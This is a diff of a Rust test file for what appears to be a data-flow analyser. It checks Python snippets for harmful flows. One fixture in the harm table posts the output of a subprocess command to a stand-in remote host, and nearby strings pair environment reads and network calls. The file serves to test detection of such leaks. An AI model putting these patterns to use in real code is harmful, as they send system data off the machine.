@@ -174,7 +174,7 @@ const HARM: &[(&str, Label, SinkKind)] = &[
         Send,
     ),
     (
-        "import subprocess, requests\nrequests.post('https://a.invalid', data=subprocess.check_output('id'))",
+        "import subprocess, requests\nrequests.post('https://a.invalid', data=subprocess.check_output(['make', 'report']))",
         Output,
         Send,
     ),
@@ -236,6 +236,7 @@ fn data_that_does_not_meet_is_no_flow() {
         "import os, requests\nif 'DEBUG' in os.environ:\n    requests.get('https://a.invalid')",
         "import os, requests\nn = len(os.environ)\nrequests.get('https://a.invalid', params={'n': n})",
         "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ))",
+        "import requests, subprocess\ndef run(cmd, **kw):\n    subprocess.call(cmd, **kw)\nfolder = requests.get('https://a.invalid').text\nrun(['make'], cwd=folder)",
         "import requests, json\njson.loads(requests.get('https://a.invalid').text)",
         "import base64\nx = base64.b64decode('aGVsbG8=')\nopen('a.png', 'wb')",
         "import os, requests\ndef f(d):\n    return requests.post('https://a.invalid', data=d)\nf('hello')\ne = os.environ",
